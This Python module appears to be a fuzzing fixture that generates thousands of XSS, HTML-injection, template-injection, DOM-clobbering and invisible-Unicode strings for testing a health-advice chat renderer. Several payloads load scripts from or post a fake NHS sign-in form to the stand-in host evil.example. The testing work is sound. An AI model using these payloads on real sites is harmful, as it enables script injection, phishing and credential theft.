"""Six thousand strings that try to run, to cover or to load something: made anew each time, always the same.

Each sets `window.hit` when it runs, asks `evil.example` when it loads, and fills the window when it covers.
"""

import random
from collections.abc import Callable, Iterator
from html import escape
from itertools import islice
from urllib.parse import quote

SIZE = 6_000
RUN = (
    "window.hit=1",
    "hit=1",
    "top.hit=1",
    "window['hit']=1",
    "self.hit=1;",
    "(()=>{window.hit=1})()",
    "hit`1`",
    "eval('hit=1')",
)
AWAY = ("https://evil.example/x", "//evil.example/x", "http://evil.example/x", "\\\\evil.example\\x", "https:evil.example/x",
        "https://www.nhs.uk@evil.example/", "https://evil.example\\@www.nhs.uk/", "https://www.nhs.uk.evil.example/")  # fmt: skip
TAGS = ("a", "abbr", "article", "audio", "b", "base", "body", "button", "canvas", "details", "dialog", "div", "embed", "fieldset",
        "form", "frameset", "h1", "iframe", "image", "img", "input", "isindex", "keygen", "link", "marquee", "math", "meta",
        "nav", "noscript", "object", "option", "p", "picture", "plaintext", "script", "section", "select", "slot", "source",
        "span", "style", "svg", "table", "td", "template", "textarea", "title", "tr", "track", "ul", "video", "x-y", "xmp")  # fmt: skip
EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart", "onbegin",
          "ontransitionend", "onscroll", "onwheel", "onpageshow", "onhashchange", "onbeforeinput", "oncopy", "oninput", "onsubmit",
          "onstart", "onloadeddata", "onauxclick", "onsecuritypolicyviolation", "onfocusin", "onbeforetoggle")  # fmt: skip
ADDRESSES = ("href", "src", "srcset", "action", "formaction", "data", "xlink:href", "poster", "background", "ping", "srcdoc",
             "content", "manifest", "cite", "longdesc", "archive", "codebase", "dynsrc", "lowsrc", "usemap")  # fmt: skip
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript&colon;",
           "&#106;avascript:", "&#x6A;avascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,",
           "livescript:", "mocha:", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "blob:", "file:///")  # fmt: skip
COVERS = ("position:fixed;inset:0;z-index:99999;background:red", "position:absolute;top:-9999px;width:100vw;height:100vh",
          "background:url(https://evil.example/b.png)", "width:expression(window.hit=1)", "behavior:url(#x)", "-moz-binding:url(//evil.example)",
          "display:block;margin:-9999px;padding:9999px;background:#fff", "content:url(//evil.example/c)", "transform:scale(999)")  # fmt: skip
UNSEEN = ("\x00", "\u200b", "\u200d", "\u2060", "\ufeff", "\u202e", "\u2066", "\u2069", "\U000e0041", "\u00ad", "\x0b", "\x0c", "\x1b[31m",
          "\u0300" * 30, "\u0489" * 20, "\ufdfd", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u2028", "\u2029", "\x85", "\ufffe")  # fmt: skip
WIDE = str.maketrans({"<": "＜", ">": "＞", "'": "＇", '"': "＂", "(": "（", "=": "＝"})

Make = Callable[[random.Random], str]


def strings(count: int = SIZE) -> list[str]:
    """So many of them, no two alike; the first few hold every kind."""
    return list(islice(_endless(), count))


def _endless() -> Iterator[str]:
    chance = random.Random(20261122)  # noqa: S311 - the same ones each time
    seen: set[str] = set()
    while True:
        for make in KINDS:
            text = _disguised(make(chance), chance)
            if text not in seen:
                seen.add(text)
                yield text


def _element(chance: random.Random) -> str:
    tag, event, code = chance.choice(TAGS), chance.choice(EVENTS), chance.choice(RUN)
    quoted = chance.choice(("{0}", "'{0}'", '"{0}"', "`{0}`")).format(code)
    space = chance.choice((" ", "/", "\t", "\n", "\x0c", " / ", " x "))
    extra = chance.choice(
        ("", " autofocus", " tabindex=0", " src=x", " open", " style=animation:a", " id=hostile contenteditable")
    )
    end = chance.choice((">", "/>", f"></{tag}>", f">x</{tag}>", " ", "//", f">{tag}"))
    return f"<{tag}{space}{event}={quoted}{extra}{end}"


def _script(chance: random.Random) -> str:
    code, away = chance.choice(RUN), chance.choice(AWAY)
    return chance.choice((
        f"<script>{code}</script>", f"<script src={away}></script>", f"<script\x20type=module>{code}</script >", f"<SCRIPT/x>{code}</SCRIPT\n>",
        f"<script>{code}//", f"<scr<script>ipt>{code}</scr</script>ipt>", f"<script><!--\n{code}//--></script>", f"<<script>{code}//<</script>",
        f"</title><script>{code}</script>", f"</textarea><script>{code}</script>", f"</style><script>{code}</script>",
        f"--><script>{code}</script>", f"]]><script>{code}</script>", f"<svg><script href=data:,{code} />", f"<svg><script>{escape(code)}</script>",
        f"<script>/*</script><svg onload='*/{code}//'>", f"<noscript><p title=\"</noscript><script>{code}</script>\">",
    ))  # fmt: skip


def _address(chance: random.Random) -> str:
    scheme, code = chance.choice(SCHEMES), chance.choice(RUN)
    to = scheme + (quote(f"<script>{code}</script>") if scheme.startswith("data") else code)
    if chance.random() < 0.4:
        to = chance.choice(AWAY)
    tag, name = chance.choice(TAGS), chance.choice(ADDRESSES)
    return f"<{tag} {name}={chance.choice(('', chr(39), chr(34)))}{to}{chance.choice(('>', chr(34) + '>', chr(39) + '>x</' + tag + '>'))}"


def _bare_address(chance: random.Random) -> str:
    return chance.choice((chance.choice(SCHEMES) + chance.choice(RUN), chance.choice(AWAY)))


def _breakout(chance: random.Random) -> str:
    code, event = chance.choice(RUN), chance.choice(EVENTS)
    out = chance.choice(
        (
            "'",
            '"',
            "`",
            "'>",
            '">',
            "&quot;>",
            "&#34;>",
            '\\">',
            "'\"",
            "</a>",
            "</button>",
            "</details>",
            "-->",
            "</p></div>",
        )
    )
    return out + chance.choice(
        (
            f" {event}={code} x=",
            f"<img src=x {event}={code}>",
            f"<svg/{event}={code}>",
            f";{code}//",
            f"+{code}+",
            f" style=x {event}={code} ",
        )
    )


def _style(chance: random.Random) -> str:
    cover, tag = chance.choice(COVERS), chance.choice(TAGS)
    return chance.choice((
        f'<{tag} style="{cover}">cover</{tag}>', f"<style>*{{{cover}}}</style>", f"<style>@import url({chance.choice(AWAY)});</style>", f'" style="{cover}" x="',
        f"<link rel=stylesheet href={chance.choice(AWAY)}>", f"<style>body{{display:none}}.help-line{{{cover}}}</style>",
        f"<div class='help-line card status skip' style='{cover}'>call 0900</div>", f"}}*{{{cover}}}/*", f"<{tag} class=\"unseen\" id=alert style={cover}>",
    ))  # fmt: skip


def _markdown(chance: random.Random) -> str:
    away, code, scheme = chance.choice(AWAY), chance.choice(RUN), chance.choice(SCHEMES)
    return chance.choice((
        f"![x]({away})", f"[NHS 111]({scheme}{code})", f"[x]: {scheme}{code}\n[x]", f"<{away}>", f"[a](<{scheme}{code}>)", f"![x][y]\n\n[y]: {away}", f"# big {code}",
        f"```html\n<img src=x onerror={code}>\n```", f"```mermaid\ngraph TD; a-->{code}\n```", f"\n\n<div>\n\n<img src={away}>\n\n</div>", f"$$\\href{{{scheme}{code}}}{{x}}$$",
        f"- <b onclick={code}>\n- x", f"| a | b |\n| - | - |\n| <img src={away}> | x |", f"> <svg onload={code}>", f"***\n\n___\n{away}", f"\\<script>{code}\\</script>", f"[^1]: {away}\n[^1]",
        f"1. x\n   <img src={away}>", f"&#91;x&#93;({scheme}{code})", f"<!-- --><img src={away}>", f"<details open ontoggle={code}>\n\ntext\n\n</details>", f"<?xml x?><img src={away}>", f"<![CDATA[<img src={away}>]]>",
    ))  # fmt: skip


def _template(chance: random.Random) -> str:
    code = chance.choice(RUN)
    return chance.choice((
        f"${{{code}}}", f"{{{{{code}}}}}", f"{{% {code} %}}", f"<%= {code} %>", f"#{{{code}}}", f"`${{{code}}}`", f"{{{{constructor.constructor('{code}')()}}}}", f"{{{{#each x}}}}{code}{{{{/each}}}}",
        f"\\u003cimg src=x onerror={code}\\u003e", f"\\x3cscript\\x3e{code}\\x3c/script\\x3e", f"{{0.__class__}}{{{code}}}%s%n", f"@{{{code}}}", f"[[{code}]]", f"{{{{=<% %>=}}}}<%{code}%>", f"{{contact:{code}}}",
    ))  # fmt: skip


def _mutation(chance: random.Random) -> str:
    code = chance.choice(RUN)
    inner = f"<img src=x onerror={code}>"
    return chance.choice((
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{escape(inner)}\">", f"<svg></p><style><a id=\"</style>{inner}\">", f"<noscript><style></noscript>{inner}", f"<form><math><mtext></form><form><mglyph><style></math>{inner}",
        f"<svg><foreignObject><iframe srcdoc='{inner}'>", f"<svg><animate attributeName=href values=javascript:{code} /><a id=x><text x=20 y=20>x</text></a>", f"<svg><use href='data:image/svg+xml,{quote(inner)}#x'>", f"<svg><set attributeName=onmouseover to={code}>",
        f"<table background={chance.choice(AWAY)}><td>", f"<select><template><style><!--</style>{inner}", f"<xmp><p title='</xmp>{inner}'>", f"<title><a title='</title>{inner}'>", f"<textarea><img title='</textarea>{inner}'>", f"<template shadowrootmode=open>{inner}</template>", f"<iframe><p title='</iframe>{inner}'>",
        f"<meta http-equiv=refresh content='0;url={chance.choice(AWAY)}'>", f"<base href={chance.choice(AWAY)}>", f"<form action={chance.choice(AWAY)}><input name=nhs autofocus><button>Sign in</button></form>", f"<object data='data:text/html,{quote(inner)}'>", f"<embed src=javascript:{code}>", f"<portal src={chance.choice(AWAY)}>",
    ))  # fmt: skip


def _encoded(chance: random.Random) -> str:
    raw = chance.choice(KINDS[:4])(chance)
    ways = (
        escape,
        quote,
        lambda text: "".join(f"&#{ord(c)};" for c in text),
        lambda text: "".join(f"&#x{ord(c):X}" for c in text),
        lambda text: escape(escape(text)),
        lambda text: text.translate(WIDE),
        lambda text: text.replace("<", "%3C").replace(">", "\\u003e"),
    )
    return chance.choice(ways)(raw)


def _clobber(chance: random.Random) -> str:
    name = chance.choice(
        (
            "main",
            "status",
            "said",
            "alert",
            "question",
            "conversation",
            "plain",
            "turn-1",
            "source-1-1",
            "body",
            "document",
            "location",
            "hit",
            "__proto__",
        )
    )
    return chance.choice(
        (
            f"<a id={name}>x</a>",
            f"<form id={name} name={name}><input name=children></form>",
            f"<img name={name} id={name}>",
            f'" id="{name}',
            f"#{name}",
            f"__proto__[{name}]=1",
            f"<iframe name={name}></iframe>",
        )
    )


def _odd(chance: random.Random) -> str:
    marks = "".join(chance.choice(UNSEEN) for _ in range(chance.randint(2, 12)))
    return chance.choice(
        (
            marks,
            f"{marks}<b>{marks}",
            f"call \u202e{chance.randint(100, 999)}\u202c now{marks}",
            "W" * chance.randint(200, 900),
            f"<{marks}img src=x onerror=hit=1>",
            f"‮{marks}999",
            "\n" * chance.randint(3, 40) + "x",
            "(" * 200 + marks,
        )
    )


KINDS: tuple[Make, ...] = (_element, _script, _address, _breakout, _style, _markdown, _template, _mutation, _encoded, _clobber, _odd, _bare_address)  # fmt: skip


def _disguised(text: str, chance: random.Random) -> str:
    """The same, now and then with something unseen in it, other capitals, or words around it."""
    turn = chance.random()
    if turn < 0.15:
        place = chance.randrange(len(text) + 1)
        return text[:place] + chance.choice(UNSEEN) + text[place:]
    if turn < 0.3:
        return "".join(chance.choice((c.upper(), c.lower())) for c in text)
    return f"Who leads {text} here?" if turn < 0.5 else text
